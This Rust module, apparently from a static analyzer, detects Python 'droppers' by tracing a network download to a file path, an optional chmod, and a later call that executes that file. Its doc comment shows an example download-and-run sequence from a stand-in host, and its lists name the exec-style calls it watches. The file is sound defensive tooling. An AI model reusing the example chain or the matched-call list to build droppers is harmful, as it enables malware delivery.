//! Droppers: a file written with what the network sent, then run. A download saved to a path
//! (`urllib.request.urlretrieve(url, p)`, `open(p, "wb").write(r.content)`,
//! `Path(p).write_bytes(…)`, `shutil.copyfileobj(resp, fh)`), and a call that runs the same
//! path: a command (`subprocess.run([p])`, `os.system(f"sh {p}")`), `runpy.run_path(p)`,
//! `os.startfile(p)`. `os.chmod` of the path on the way is a step. The path is matched by its
//! variable or by its shape when that names enough to be one file. The JavaScript front end
//! does the same (`telltale-js/src/dropper.rs`).
//!
//! ```text
//! urllib.request.urlretrieve("https://x.top/u", "/tmp/u")   → written: /tmp/u
//! os.chmod("/tmp/u", 0o755); subprocess.Popen(["/tmp/u"])   → dropper, 3 steps
//! ```

use crate::{span_of, Analyzer, Binding, ScopeId, Var};
use ruff_python_ast::{self as ast, Expr};
use ruff_text_size::Ranged;
use telltale_facts::{DataKind, DropperFact, Kinds, Step};
use telltale_knowledge::py_api::py_api;

/// A file written with network data.
struct Written<'a> {
    shape: String,
    var: Option<Var<'a>>,
    steps: Vec<Step>,
    chmods: Vec<Step>,
}

/// Calls that run a file named in their arguments, besides commands.
const RUNS_A_FILE: &[&str] = &[
    "runpy.run_path",
    "os.startfile",
    "ctypes.CDLL",
    "ctypes.cdll.LoadLibrary",
];

/// Whether a shape names one file well enough to match by it.
fn names_a_file(shape: &str) -> bool {
    shape
        .chars()
        .filter(|c| !matches!(c, '*' | '/' | '\\' | '.' | '~' | ' '))
        .count()
        >= 3
}

impl<'a> Analyzer<'a> {
    /// The path a file handle was opened for writing at: `open(p, "wb")` in place, assigned
    /// to the handle, or entered with `with … as fh`.
    fn written_handle_path(
        &self,
        e: &'a Expr,
        scope: ScopeId,
        depth: u32,
    ) -> Option<(&'a Expr, ScopeId)> {
        match e {
            Expr::Call(c) => {
                let p = self.path_of(&c.func, scope)?;
                if !matches!(&*p, "open" | "io.open" | "builtins.open" | "codecs.open") {
                    return None;
                }
                let mode = c
                    .arguments
                    .args
                    .get(1)
                    .or_else(|| {
                        c.arguments
                            .keywords
                            .iter()
                            .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "mode"))
                            .map(|k| &k.value)
                    })
                    .and_then(|m| self.value_of(m, scope))
                    .and_then(|v| v.text())?;
                mode.contains(['w', 'a', 'x'])
                    .then(|| c.arguments.args.first().map(|a| (a, scope)))
                    .flatten()
            }
            Expr::Name(_) if depth < 4 => {
                match self.var_of(e, scope).map(|v| self.bindings_of(v)) {
                    Some(
                        [Binding::Assign {
                            value, scope: s, ..
                        }],
                    ) => self.written_handle_path(value, *s, depth + 1),
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// `pathlib.Path(p)` → `p`, in place or assigned once to a name.
    fn path_object_path(&self, e: &'a Expr, scope: ScopeId) -> Option<(&'a Expr, ScopeId)> {
        match e {
            Expr::Call(c) => {
                let p = self.path_of(&c.func, scope)?;
                matches!(&*p, "pathlib.Path" | "pathlib.PosixPath")
                    .then(|| c.arguments.args.first().map(|a| (a, scope)))
                    .flatten()
            }
            Expr::Name(_) => match self.var_of(e, scope).map(|v| self.bindings_of(v)) {
                Some(
                    [Binding::Assign {
                        value, scope: s, ..
                    }],
                ) if matches!(value, Expr::Call(_)) => self.path_object_path(value, *s),
                _ => None,
            },
            _ => None,
        }
    }

    /// Expressions a call names a file with: its arguments and the items of a list argument.
    fn named_paths(&self, c: &'a ast::ExprCall) -> Vec<&'a Expr> {
        let mut out = Vec::new();
        for a in c
            .arguments
            .args
            .iter()
            .chain(c.arguments.keywords.iter().map(|k| &k.value))
        {
            out.push(a);
            match a {
                Expr::List(l) => out.extend(l.elts.iter()),
                Expr::Tuple(t) => out.extend(t.elts.iter()),
                Expr::FString(f) => {
                    for el in f.value.elements() {
                        if let ast::InterpolatedStringElement::Interpolation(i) = el {
                            out.push(&i.expression);
                        }
                    }
                }
                _ => {}
            }
        }
        // `pathlib.Path(p).chmod(…)`: the receiver names it.
        if let Expr::Attribute(m) = &*c.func {
            out.push(&m.value);
        }
        out
    }

    fn names_written(&self, e: &'a Expr, scope: ScopeId, w: &Written<'a>) -> bool {
        if w.var.is_some() && matches!(e, Expr::Name(_)) && self.var_of(e, scope) == w.var {
            return true;
        }
        let e = self.path_object_path(e, scope).map_or(e, |(p, _)| p);
        names_a_file(&w.shape) && self.shape_of(e, scope).contains(&w.shape)
    }
}

pub(crate) fn run(an: &mut Analyzer<'_>) {
    let net = Kinds::of(DataKind::NetworkResponse);
    let api = py_api();
    let mut written: Vec<Written> = Vec::new();
    for call in &an.calls {
        let (c, scope) = (call.call, call.scope);
        let path = an.path_of(&c.func, scope);
        let args = &c.arguments.args;
        // Where it writes and what: (path, data, or `None` when the call downloads itself).
        let (target, data) = match path.as_deref() {
            Some("urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download") => {
                (args.get(1).map(|a| (a, scope)), None)
            }
            Some("shutil.copyfileobj") => (
                args.get(1)
                    .and_then(|h| an.written_handle_path(h, scope, 0)),
                args.first(),
            ),
            _ => match &*c.func {
                Expr::Attribute(m) if matches!(m.attr.as_str(), "write" | "writelines") => {
                    (an.written_handle_path(&m.value, scope, 0), args.first())
                }
                Expr::Attribute(m) if matches!(m.attr.as_str(), "write_bytes" | "write_text") => {
                    (an.path_object_path(&m.value, scope), args.first())
                }
                _ => (None, None),
            },
        };
        let Some((target, tscope)) = target else {
            continue;
        };
        let mut steps = match data {
            Some(d) => {
                let atoms = an.atoms(d, scope);
                if !an.resolve_kinds(&atoms).contains(DataKind::NetworkResponse) {
                    continue;
                }
                an.steps_for(&atoms, net)
            }
            None => vec![],
        };
        let shape = an.shape_of(target, tscope);
        let how = if data.is_some() {
            "written"
        } else {
            "downloaded"
        };
        steps.push(Step {
            span: span_of(c.range()),
            what: format!("{how} to {shape}: {}", an.snippet(c.range())),
        });
        written.push(Written {
            shape,
            var: matches!(target, Expr::Name(_))
                .then(|| an.var_of(target, tscope))
                .flatten(),
            steps,
            chmods: vec![],
        });
    }
    if written.is_empty() {
        return;
    }
    let mut found = Vec::new();
    for call in &an.calls {
        let (c, scope) = (call.call, call.scope);
        let path = an.path_of(&c.func, scope);
        let chmod = path.as_deref() == Some("os.chmod")
            || matches!(&*c.func, Expr::Attribute(m) if m.attr.as_str() == "chmod");
        let Some(path) = path
            .as_deref()
            .map(str::to_string)
            .or_else(|| chmod.then(|| "chmod".to_string()))
        else {
            continue;
        };
        let runs = api.exec_style(&path).is_some() || RUNS_A_FILE.contains(&path.as_str());
        if !chmod && !runs {
            continue;
        }
        let named = an.named_paths(c);
        for w in written.iter_mut() {
            if !named.iter().any(|e| an.names_written(e, scope, w)) {
                continue;
            }
            if chmod {
                w.chmods.push(Step {
                    span: span_of(c.range()),
                    what: format!("made executable: {}", an.snippet(c.range())),
                });
                continue;
            }
            let mut steps = w.steps.clone();
            steps.extend(w.chmods.iter().cloned());
            steps.push(Step {
                span: span_of(c.range()),
                what: format!("run by {path}: {}", an.snippet(c.range())),
            });
            found.push(DropperFact {
                path: w.shape.clone(),
                api: path.clone(),
                span: span_of(c.range()),
                steps,
            });
        }
    }
    an.facts.droppers.extend(found);
}
